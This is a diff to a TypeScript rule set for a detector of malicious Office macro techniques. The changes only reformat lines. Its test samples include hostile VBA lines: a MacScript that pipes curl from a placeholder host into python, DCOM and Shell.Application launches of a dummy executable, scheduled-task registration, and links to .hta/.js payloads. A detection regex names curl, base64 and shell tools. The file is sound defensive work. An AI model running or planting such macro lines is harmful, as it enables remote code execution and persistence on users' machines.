@@ -20,7 +20,8 @@ export const starting: readonly Technique[] = [
     calls: ['shell'],
     on: 'alone',
     matters: argument(0, 'pathname'),
-    strength: (command, _, around) => Math.max(strengthOfCommand(command, 'process'), opensWhatWasWritten(command, around)) as Strength,
+    strength: (command, _, around) =>
+      Math.max(strengthOfCommand(command, 'process'), opensWhatWasWritten(command, around)) as Strength,
     attack: ['T1059.005'],
     fires: [
       'Shell "notreal.exe", 0',
@@ -93,10 +94,20 @@ export const starting: readonly Technique[] = [
     calls: ['open', 'explore'],
     on: [/^shell\.application(?:\/application)*$/],
     matters: argument(0, 'vdir'),
-    strength: (path) => (runs(path) ? 1 : isShown(path) || isBeside(path) ? 0 : /[\ue001\ue002]$/.test(path) ? 0.5 : strengthOfCommand(path, 'shell')),
+    strength: (path) =>
+      runs(path)
+        ? 1
+        : isShown(path) || isBeside(path)
+          ? 0
+          : /[\ue001\ue002]$/.test(path)
+            ? 0.5
+            : strengthOfCommand(path, 'shell'),
     attack: ['T1059.005'],
     fires: ['CreateObject("Shell.Application").Open Environ("TEMP") & "\\notreal.exe"'],
-    silent: ['CreateObject("Shell.Application").Open ThisWorkbook.Path', 'CreateObject("Shell.Application").Open "C:\\Data"'],
+    silent: [
+      'CreateObject("Shell.Application").Open ThisWorkbook.Path',
+      'CreateObject("Shell.Application").Open "C:\\Data"',
+    ],
   },
   {
     id: 'shell-verb',
@@ -169,7 +180,9 @@ export const starting: readonly Technique[] = [
     matters: ({ arguments: values }) => [values[0], values[2]],
     strength: (command) => Math.max(1, strengthOfCommand(command, 'shell')) as Strength,
     attack: ['T1021.003'],
-    fires: ['Set m = GetObject("new:49B2791A-B1AE-4C90-9B8E-E860BA07F889")\nm.Document.ActiveView.ExecuteShellCommand "cmd", "", "/c echo", "7"'],
+    fires: [
+      'Set m = GetObject("new:49B2791A-B1AE-4C90-9B8E-E860BA07F889")\nm.Document.ActiveView.ExecuteShellCommand "cmd", "", "/c echo", "7"',
+    ],
     silent: ['Set c = CreateObject("ADODB.Connection")\nc.Execute "select 1"'],
   },
   {
@@ -179,7 +192,9 @@ export const starting: readonly Technique[] = [
     on: 'anything',
     strength: () => 1,
     attack: ['T1053.005'],
-    fires: ['Set s = CreateObject("Schedule.Service")\ns.Connect\nSet d = s.NewTask(0)\ns.GetFolder("\\").RegisterTaskDefinition "x", d, 6, "", "", 3'],
+    fires: [
+      'Set s = CreateObject("Schedule.Service")\ns.Connect\nSet d = s.NewTask(0)\ns.GetFolder("\\").RegisterTaskDefinition "x", d, 6, "", "", 3',
+    ],
     silent: ['Set s = CreateObject("Outlook.Application")\nSet t = s.CreateItem(3)\nt.Save'],
   },
   {
@@ -193,7 +208,10 @@ export const starting: readonly Technique[] = [
       return /[\ue001\ue002]$/.test(address) && around.writesPrograms ? 0.5 : 0;
     },
     attack: ['T1204.002'],
-    fires: ['ThisDocument.FollowHyperlink "C:\\ProgramData\\notreal.hta"', 'ActiveWorkbook.FollowHyperlink "http://files.invalid/a.js"'],
+    fires: [
+      'ThisDocument.FollowHyperlink "C:\\ProgramData\\notreal.hta"',
+      'ActiveWorkbook.FollowHyperlink "http://files.invalid/a.js"',
+    ],
     silent: [
       'ThisWorkbook.FollowHyperlink ThisWorkbook.Path & "\\manual.pdf"',
       'ActiveWorkbook.FollowHyperlink "https://help.example/"',
@@ -218,16 +236,26 @@ export const starting: readonly Technique[] = [
     on: 'alone',
     matters: ({ arguments: values }) => values,
     strength: (script) =>
-      script.includes('do shell script') && /\bpython|osascript|\/bash|\/sh\b|chmod|base64|\bcurl\b.{0,80}(?:-o|\||>)/.test(script) ? 1 : 0,
+      script.includes('do shell script') &&
+      /\bpython|osascript|\/bash|\/sh\b|chmod|base64|\bcurl\b.{0,80}(?:-o|\||>)/.test(script)
+        ? 1
+        : 0,
     attack: ['T1059.002'],
     fires: ['MacScript "do shell script ""curl -s http://files.invalid/a | python -"""'],
-    silent: ['x = MacScript("do shell script ""curl -s https://rates.example/eur""")', 'MacScript "tell application ""Finder"" to activate"'],
+    silent: [
+      'x = MacScript("do shell script ""curl -s https://rates.example/eur""")',
+      'MacScript "tell application ""Finder"" to activate"',
+    ],
   },
 ];
 
 /** Explorer opens what it is given: where the project wrote a program, an unknown file is that one. */
 function opensWhatWasWritten(command: string, { writesPrograms }: Surroundings): Strength {
-  return writesPrograms && /^"?(?:[^\s"]*\\)?explorer(?:\.exe)?"? /.test(command) && (command.endsWith(HOLE) || command.endsWith(KEPT)) ? 1 : 0;
+  return writesPrograms &&
+    /^"?(?:[^\s"]*\\)?explorer(?:\.exe)?"? /.test(command) &&
+    (command.endsWith(HOLE) || command.endsWith(KEPT))
+    ? 1
+    : 0;
 }
 
 /** The file that a verb is called on: what ParseName was given, on the way to it. */
@@ -246,4 +274,3 @@ function linkOf({ object }: MacroCall): readonly (MacroCall['object'] | undefine
   const made = object?.kind === 'object' ? object.made : undefined;
   return made?.name === 'add' ? [made.arguments[1] ?? made.named.get('address')] : [];
 }
-
